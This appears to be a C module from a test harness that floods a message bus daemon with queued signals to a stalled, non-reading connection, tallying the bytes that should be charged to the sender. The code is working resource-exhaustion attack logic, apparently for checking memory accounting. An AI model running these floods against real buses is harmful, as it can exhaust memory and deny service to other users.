/* SPDX-License-Identifier: MIT */
#include "attack.h"

#include <stdio.h>
#include <sys/socket.h>
#include <unistd.h>

/*
 * Small messages are queued, each read together with a large one that is not. shared->harm is the number
 * of bytes charged to the sender: the sizes of the messages. All are queued when the attack is ready.
 */

#define FILL 400
#define SETTLE_US 300000

/* A connection that reads nothing, with a full socket. */
static void stuck(struct connection *c, struct connection *sender)
{
    struct buffer out = {0};
    int least = 2048;
    attack_join(c);
    setsockopt(c->fd, SOL_SOCKET, SO_RCVBUF, &least, sizeof(least));
    put_signal(&out, c->name, 2000);
    for (int i = 0; i < FILL; i++)
        attack_pour(sender, &out);
    atomic_fetch_add(&shared->harm, FILL * out.size);
    usleep(SETTLE_US);
}

/* A queued message between a call that stops the sender for a moment and signals without a recipient. */
void waiting_tail(void *argument)
{
    struct connection sender = {0}, reader = {0};
    struct buffer out = {0}, body = {0}, waits = {0}, passes = {0};
    (void)argument;
    hostile_set_uid();
    attack_join(&sender);
    stuck(&reader, &sender);
    put_signal(&waits, reader.name, 2200);
    put_signal(&passes, NULL, 2600);
    put_repeated(&passes, 130000);
    buffer_string(&body, BUS);
    for (int i = 0; i < attack_options.count; i++) {
        out.size = 0;
        put_driver_call(&out, "ListQueuedOwners", "s", &body);
        buffer_put(&out, waits.data, waits.size);
        buffer_put(&out, passes.data, passes.size);
        attack_pour(&sender, &out);
        attack_sync(&sender);
        atomic_fetch_add(&shared->harm, waits.size);
    }
    process_ready();
    pause();
}

/* A queued message of 256 KiB after each one of 8 MiB that is not queued: is the large buffer reused? */
void waiting_pool(void *argument)
{
    struct connection sender = {0}, reader = {0};
    struct buffer waits = {0}, passes = {0};
    (void)argument;
    hostile_set_uid();
    attack_join(&sender);
    stuck(&reader, &sender);
    put_signal(&waits, reader.name, (256u << 10) + 2048);
    put_signal(&passes, NULL, (8u << 20) - (68u << 10));
    for (int i = 0; i < attack_options.count; i++) {
        attack_pour(&sender, &passes);
        attack_sync(&sender);
        usleep(20000);
        attack_pour(&sender, &waits);
        attack_sync(&sender);
        atomic_fetch_add(&shared->harm, waits.size);
    }
    process_ready();
    pause();
}
